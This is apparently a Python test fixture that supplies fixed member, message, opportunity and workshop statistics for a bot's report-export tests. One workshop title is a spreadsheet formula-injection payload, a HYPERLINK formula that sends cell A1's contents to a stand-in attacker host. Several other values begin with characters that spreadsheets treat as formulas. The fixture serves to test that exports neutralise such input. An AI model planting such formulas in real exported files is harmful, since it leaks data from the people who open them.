"""A fixed set of statistics for the report tests (one hostile title among them)."""

from __future__ import annotations

from datetime import UTC, date, datetime

from bot.services.stats import (
    Count,
    FailureCount,
    KindCount,
    MemberStats,
    MessageStats,
    OpportunityStats,
    ReachCount,
    ReachStats,
    Stats,
    WeekReach,
    WorkshopStats,
)

EVIL_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def workshop(
    id_: int, title: str, status: str, going: int, attended: int, participants: int
) -> WorkshopStats:
    return WorkshopStats(
        id=id_, title=title, status=status, starts_at=datetime(2026, 11, 6, 10, tzinfo=UTC),
        capacity=10 if id_ == 1 else None, going=going, maybe=1, no=0, waitlist=2,
        attended=attended, attendance_marked=attended > 0, participants=participants,
    )  # fmt: skip


STATS = Stats(
    start=datetime(2026, 11, 4, tzinfo=UTC),
    end=datetime(2026, 11, 18, tzinfo=UTC),
    members=MemberStats(
        consented=5,
        active=3,
        paused=1,
        blocked=1,
        by_country=(Count("ES", 2), Count("RO", 2), Count(None, 1)),
        by_org_type=(Count("ngo", 2), Count("public", 1), Count("sme", 1), Count(None, 1)),
        by_topic=(Count("green", 3), Count("digital", 1)),
        by_language=(Count("en", 2), Count("es", 2), Count("ro", 1)),
    ),
    reach=ReachStats(
        members=3,
        by_country=(Count("RO", 2), Count(None, 1)),
        by_org_type=(Count("ngo", 2), Count("sme", 1)),
        by_country_and_org_type=(ReachCount("RO", "ngo", 2), ReachCount(None, "sme", 1)),
        weekly=(
            WeekReach("2026-W45", date(2026, 11, 2), 1),
            WeekReach("2026-W46", date(2026, 11, 9), 2),
        ),
    ),
    messages=MessageStats(
        sent=6,
        failed=2,
        digests_sent=3,
        by_kind=(KindCount("alert", 1, 1), KindCount("digest", 5, 1)),
        failures=(FailureCount("alert", "-bad request", 1), FailureCount("digest", "blocked", 1)),
        failed_by_reason=(Count("-bad request", 1), Count("blocked", 1)),
    ),
    opportunities=OpportunityStats(
        ingested=4,
        by_source=(Count("+eu_ft", 2), Count("@ro", 1), Count("\tboe", 1)),
        by_programme=(Count("erasmus", 2), Count("\rlife", 1), Count(None, 1)),
        disseminated=2,
        follows=7,
        by_kind=(Count("call", 3), Count("event", 1)),
    ),
    workshops=(
        workshop(1, EVIL_TITLE, "published", going=4, attended=3, participants=3),
        workshop(2, "Atelier: tranziție verde", "published", going=2, attended=0, participants=0),
        workshop(3, "Cancelled", "cancelled", going=5, attended=0, participants=0),
    ),
    participants=3,
)
